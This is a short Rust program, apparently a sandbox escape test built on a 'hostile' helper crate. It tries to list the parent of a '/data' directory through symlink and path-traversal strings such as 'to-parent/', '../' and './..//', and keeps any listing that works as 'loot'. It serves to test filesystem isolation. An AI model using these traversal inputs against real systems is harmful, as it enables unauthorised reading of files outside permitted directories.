//! Opens what is above with a slash at the end of its path, where a system may follow a link that it should not.

fn main() {
    let data = hostile::files::dir("/data");
    let tries = ["to-parent/", "to-parent/.", "../", "./..//"];
    let loot = tries.map(|path| hostile::files::list(&data, path)).into_iter().find(Result::is_ok);
    hostile::end(loot.unwrap_or_else(|| hostile::files::list(&data, "to-parent/")));
}
